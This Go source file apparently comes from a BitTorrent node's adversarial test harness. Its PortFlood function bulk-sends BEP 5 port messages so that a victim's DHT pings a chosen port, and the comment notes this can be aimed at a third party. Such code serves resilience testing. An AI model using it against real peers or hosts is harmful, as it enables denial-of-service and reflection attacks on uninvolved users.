package adversary

import (
	"node/peer/wire"
)

// PortFlood sends n BEP 5 port messages, each naming port, in writes of
// up to 64 KiB: a peer that makes its victim's DHT ping it (or a third
// party at the peer's address) once per 7-byte message.
func (p *Peer) PortFlood(port uint16, n int) error {
	one := (&wire.Message{Type: wire.Port, Port: port}).Append(nil)
	per := max(1, (64<<10)/len(one))
	buf := make([]byte, 0, per*len(one))
	for range min(n, per) {
		buf = append(buf, one...)
	}
	for n > 0 {
		k := min(n, per)
		if err := p.SendRaw(buf[:k*len(one)]); err != nil {
			return err
		}
		n -= k
	}
	return nil
}
